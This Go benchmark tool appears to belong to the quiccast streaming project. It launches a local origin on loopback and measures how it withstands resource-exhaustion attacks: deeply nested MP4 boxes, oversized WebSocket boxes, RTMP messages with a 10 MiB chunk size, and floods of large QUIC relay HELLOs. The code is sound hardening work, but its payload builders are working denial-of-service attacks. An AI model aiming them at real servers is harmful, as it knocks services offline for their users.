// Command hostile replays issue 9's attacks against a real quiccast origin
// binary, one fresh origin per attack, and prints a Markdown table of what
// each cost the node: peak and remaining resident memory, CPU seconds,
// how long the attack's connections lived, how they ended, and whether the
// node survived. Run it against an old and a new binary for "before" and
// "after":
//
//	go build -o .bin/quiccast . && go run ./bench/hostile -bin .bin/quiccast
//
// Only loopback is attacked: the origin is started here, on 127.0.0.1.
package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/bluenviron/gortmplib/pkg/handshake"
	"github.com/gorilla/websocket"
	"github.com/quic-go/quic-go"

	"github.com/quiccast/quiccast/shared/clip"
	"github.com/quiccast/quiccast/shared/relay"
)

const (
	publishToken = "hostile-publish-secret"
	clusterToken = "hostile-cluster-secret"
)

// attack is one row of the table.
type attack struct {
	name, what string
	// origin flags beyond the listen addresses.
	flags []string
	run   func(t *target) map[string]int
}

var attacks = []attack{
	{"deep-moof", "1 WebSocket publisher: valid init, then an 8 MiB moof of ~1M nested traf boxes", nil, deepMoof},
	{"deep-init", "1 WebSocket publisher: a 1 MiB init of ~131k nested trak boxes", nil, deepInit},
	{"big-boxes", "150 WebSocket publishers, each declaring and filling an 8 MiB box (all but its last byte)", nil, func(t *target) map[string]int { return bigBoxes(t, 150, true) }},
	{"box-headers", "200 WebSocket publishers sending only an 8 MiB box's 8-byte header", nil, func(t *target) map[string]int { return bigBoxes(t, 200, false) }},
	{"rtmp-big", "100 RTMP connections without a key: 10 MiB chunk size, 5 MiB of a 10 MiB message", []string{"-publish-tokens", publishToken}, rtmpBig},
	{"relay-hello", "300 QUIC connections to the relay, each sending a 1 MiB HELLO", nil, relayHello},
}

// target is a running origin.
type target struct {
	cmd                 *exec.Cmd
	ws, rtmp, relayAddr string
	exited              chan error
	stderr              *tail
	hold                time.Duration
}

func main() {
	bin := flag.String("bin", ".bin/quiccast", "the quiccast binary to attack")
	only := flag.String("only", "", "comma-separated attack names (default: all)")
	hold := flag.Duration("hold", 15*time.Second, "longest an attacking connection is held open")
	flag.Parse()
	fmt.Printf("| attack | peak RSS | RSS after | CPU-s | longest connection | outcome | node |\n|---|---|---|---|---|---|---|\n")
	for _, a := range attacks {
		if *only != "" && !slices.Contains(strings.Split(*only, ","), a.name) {
			continue
		}
		r, err := measure(*bin, a, *hold)
		if err != nil {
			fmt.Fprintf(os.Stderr, "%s: %v\n", a.name, err)
			os.Exit(1)
		}
		fmt.Println(r.row())
	}
}

// result is what one attack cost a fresh origin.
type result struct {
	attack          attack
	rssBefore, peak int64 // bytes
	rssAfter        int64 // bytes, 2 s after the attack (0 if the node died)
	cpu             float64
	took            time.Duration
	outcomes        map[string]int
	died            string // the node's fatal error, "" if it stayed up
}

func (r result) row() string {
	after, node := fmt.Sprintf("%d MiB", r.rssAfter>>20), "up"
	if r.died != "" {
		after, node = "—", "**died**: "+r.died
	}
	return fmt.Sprintf("| %s: %s | %d → %d MiB | %s | %.1f | %s | %s | %s |", r.attack.name, r.attack.what, r.rssBefore>>20, r.peak>>20, after,
		r.cpu, r.took.Round(10*time.Millisecond), summarize(r.outcomes), node)
}

// measure starts a fresh origin with extra flags, runs a, and says what
// it cost.
func measure(bin string, a attack, hold time.Duration, extra ...string) (result, error) {
	ports, err := freePorts(3)
	if err != nil {
		return result{}, err
	}
	t := &target{
		ws:        fmt.Sprintf("127.0.0.1:%d", ports[0]),
		relayAddr: fmt.Sprintf("127.0.0.1:%d", ports[1]),
		rtmp:      fmt.Sprintf("127.0.0.1:%d", ports[2]),
		exited:    make(chan error, 1),
		stderr:    &tail{},
		hold:      hold,
	}
	args := append([]string{"origin", "-listen", t.ws, "-relay-listen", t.relayAddr, "-rtmp-listen", t.rtmp,
		"-cluster-token", clusterToken, "-log-level", "error"}, append(a.flags, extra...)...)
	t.cmd = exec.Command(bin, args...)
	t.cmd.Stderr = t.stderr
	if err := t.cmd.Start(); err != nil {
		return result{}, err
	}
	go func() { t.exited <- t.cmd.Wait() }()
	defer func() {
		t.cmd.Process.Kill()
		<-t.exited
	}()
	if err := waitUp(t.ws, 30*time.Second); err != nil {
		return result{}, err
	}
	pid := t.cmd.Process.Pid
	rss0, _ := procStat(pid)
	var peak int64
	stop := make(chan struct{})
	sampled := make(chan struct{})
	go func() {
		defer close(sampled)
		for {
			if r, _ := procStat(pid); r > peak {
				peak = r
			}
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}()
	_, cpu0 := procStat(pid)
	start := time.Now()
	outcomes := a.run(t)
	took := time.Since(start)
	close(stop)
	<-sampled
	r := result{attack: a, rssBefore: rss0, peak: peak, took: took, outcomes: outcomes}
	select {
	case err := <-t.exited:
		t.exited <- err
		r.died = t.stderr.firstLine()
	case <-time.After(2 * time.Second): // let it release what the attack left
	}
	var cpu1 float64
	r.rssAfter, cpu1 = procStat(pid)
	r.cpu = cpu1 - cpu0
	return r, nil
}

// procStat returns a process's resident bytes and CPU seconds so far.
func procStat(pid int) (rss int64, cpu float64) {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return 0, 0
	}
	// Fields after the command's closing parenthesis: state is field 3.
	f := strings.Fields(string(b[strings.LastIndexByte(string(b), ')')+2:]))
	utime, _ := strconv.ParseFloat(f[11], 64)
	stime, _ := strconv.ParseFloat(f[12], 64)
	pages, _ := strconv.ParseInt(f[21], 10, 64)
	return pages * int64(os.Getpagesize()), (utime + stime) / 100 // USER_HZ is 100 on Linux
}

func summarize(m map[string]int) string {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var parts []string
	for _, k := range keys {
		parts = append(parts, fmt.Sprintf("%d× %s", m[k], k))
	}
	return strings.Join(parts, "; ")
}

func freePorts(n int) ([]int, error) {
	var ports []int
	for range n {
		// A port free for TCP and UDP alike.
		for {
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				return nil, err
			}
			p := l.Addr().(*net.TCPAddr).Port
			u, err := net.ListenPacket("udp", fmt.Sprintf("127.0.0.1:%d", p))
			l.Close()
			if err == nil {
				u.Close()
				ports = append(ports, p)
				break
			}
		}
	}
	return ports, nil
}

func waitUp(addr string, d time.Duration) error {
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if r, err := http.Get("http://" + addr + "/healthz"); err == nil {
			r.Body.Close()
			return nil
		}
		time.Sleep(50 * time.Millisecond)
	}
	return fmt.Errorf("origin at %s not up within %s", addr, d)
}

// tail keeps the first lines the origin wrote to stderr (a fatal error's
// reason).
type tail struct {
	mu sync.Mutex
	b  []byte
}

func (t *tail) Write(p []byte) (int, error) {
	t.mu.Lock()
	defer t.mu.Unlock()
	if len(t.b) < 4096 {
		t.b = append(t.b, p[:min(len(p), 4096-len(t.b))]...)
	}
	return len(p), nil
}

func (t *tail) firstLine() string {
	t.mu.Lock()
	defer t.mu.Unlock()
	s := bufio.NewScanner(strings.NewReader(string(t.b)))
	for s.Scan() {
		if l := strings.TrimSpace(s.Text()); strings.HasPrefix(l, "fatal error") || strings.HasPrefix(l, "panic") {
			return l
		}
	}
	return "exited"
}

// --- WebSocket publishers ---

// nested returns depth empty boxes of type typ, each the only child of the
// one before.
func nested(typ string, depth int) []byte {
	b := make([]byte, 0, 8*depth)
	for i := range depth {
		b = binary.BigEndian.AppendUint32(b, uint32(8*(depth-i)))
		b = append(b, typ...)
	}
	return b
}

func demo() (init, moof, mdat []byte) {
	cl, err := clip.Demo()
	if err != nil {
		panic(err)
	}
	c0 := cl.Chunks[0].Data
	n := int(binary.BigEndian.Uint32(c0))
	return cl.Init.Data, c0[:n], c0[n:]
}

func dialPublisher(t *target, name string) (*websocket.Conn, error) {
	c, _, err := websocket.DefaultDialer.Dial(fmt.Sprintf("ws://%s/publish/%s", t.ws, name), nil)
	return c, err
}

// send writes b in 256 KiB messages, paced under the origin's default
// -max-rate so that the rate limit is not what ends the attack.
func send(c *websocket.Conn, b []byte) error {
	for len(b) > 0 {
		k := min(256<<10, len(b))
		c.SetWriteDeadline(time.Now().Add(30 * time.Second))
		if err := c.WriteMessage(websocket.BinaryMessage, b[:k]); err != nil {
			return err
		}
		b = b[k:]
		time.Sleep(time.Duration(k) * time.Second / 5_000_000)
	}
	return nil
}

// ending reads until the connection ends or hold passes and says how it
// ended: the close code and reason, "held" or the error.
func ending(c *websocket.Conn, hold time.Duration) string {
	c.SetReadDeadline(time.Now().Add(hold))
	for {
		if _, _, err := c.ReadMessage(); err != nil {
			var ce *websocket.CloseError
			var ne net.Error
			switch {
			case errors.As(err, &ce):
				return fmt.Sprintf("closed %d %q", ce.Code, ce.Text)
			case errors.As(err, &ne) && ne.Timeout():
				return "held open"
			default:
				return "cut"
			}
		}
	}
}

func deepMoof(t *target) map[string]int {
	init, moof, mdat := demo()
	deep := append(append([]byte{}, moof...), nested("traf", (8<<20-len(moof)-len(mdat))/8)...)
	binary.BigEndian.PutUint32(deep, uint32(len(deep)))
	c, err := dialPublisher(t, "deep")
	if err != nil {
		return map[string]int{"dial failed": 1}
	}
	defer c.Close()
	go func() { _ = send(c, init); _ = send(c, deep); _ = send(c, mdat) }()
	return map[string]int{ending(c, 60*time.Second): 1}
}

func deepInit(t *target) map[string]int {
	init, _, _ := demo()
	ftyp := int(binary.BigEndian.Uint32(init))
	moov := append(append([]byte{}, init[ftyp:]...), nested("trak", (1<<20-len(init))/8)...)
	binary.BigEndian.PutUint32(moov, uint32(len(moov)))
	c, err := dialPublisher(t, "deepinit")
	if err != nil {
		return map[string]int{"dial failed": 1}
	}
	defer c.Close()
	go func() { _ = send(c, append(append([]byte{}, init[:ftyp]...), moov...)) }()
	return map[string]int{ending(c, 90*time.Second): 1}
}

func bigBoxes(t *target, n int, fill bool) map[string]int {
	init, _, _ := demo()
	var mu sync.Mutex
	res := map[string]int{}
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r := func() string {
				c, err := dialPublisher(t, fmt.Sprintf("big%d", i))
				if err != nil {
					return "dial failed"
				}
				defer c.Close()
				go func() {
					if send(c, init) != nil {
						return
					}
					body := binary.BigEndian.AppendUint32(nil, 8<<20)
					body = append(body, "moof"...)
					if fill {
						body = append(body, make([]byte, 8<<20-8-1)...)
					}
					_ = send(c, body)
				}()
				return ending(c, t.hold)
			}()
			mu.Lock()
			res[r]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	return res
}

// --- RTMP ---

func rtmpBig(t *target) map[string]int {
	var mu sync.Mutex
	res := map[string]int{}
	var wg sync.WaitGroup
	for range 100 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r := func() string {
				nc, err := net.Dial("tcp", t.rtmp)
				if err != nil {
					return "dial failed"
				}
				defer nc.Close()
				nc.SetDeadline(time.Now().Add(t.hold))
				if _, _, err := handshake.DoClient(nc, false, false); err != nil {
					return "handshake refused"
				}
				const size = 10 << 20
				// Set Chunk Size (type 1) to 10 MiB, then the header of a
				// 10 MiB video message on chunk stream 4.
				msg := []byte{2, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0}
				msg = binary.BigEndian.AppendUint32(msg, size)
				msg = append(msg, 4, 0, 0, 0, size>>16, 0, 0, 9, 0, 0, 0, 0) // size is 0xA00000
				if _, err := nc.Write(msg); err != nil {
					return "cut"
				}
				go func() {
					buf := make([]byte, 64<<10)
					for total := 0; total < 5<<20; total += len(buf) {
						if _, err := nc.Write(buf); err != nil {
							return
						}
					}
				}()
				_, err = io.Copy(io.Discard, nc)
				var ne net.Error
				if errors.As(err, &ne) && ne.Timeout() {
					return "held open"
				}
				return "cut"
			}()
			mu.Lock()
			res[r]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	return res
}

// --- relay ---

func relayHello(t *target) map[string]int {
	var mu sync.Mutex
	res := map[string]int{}
	var wg sync.WaitGroup
	for range 300 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r := func() string {
				ctx, cancel := context.WithTimeout(context.Background(), t.hold)
				defer cancel()
				conn, err := quic.DialAddr(ctx, t.relayAddr,
					&tls.Config{InsecureSkipVerify: true, NextProtos: []string{relay.ALPN}},
					&quic.Config{MaxIdleTimeout: 30 * time.Second})
				if err != nil {
					return "dial failed"
				}
				defer conn.CloseWithError(0, "")
				st, err := conn.OpenStreamSync(ctx)
				if err != nil {
					return "cut"
				}
				go func() {
					_, _ = st.Write(binary.BigEndian.AppendUint32(nil, 1<<20))
					_, _ = st.Write(make([]byte, 1<<20-1))
				}()
				select {
				case <-conn.Context().Done():
					var ae *quic.ApplicationError
					if errors.As(context.Cause(conn.Context()), &ae) {
						return fmt.Sprintf("closed %d", ae.ErrorCode)
					}
					return "cut"
				case <-ctx.Done():
					return "held open"
				}
			}()
			mu.Lock()
			res[r]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	return res
}
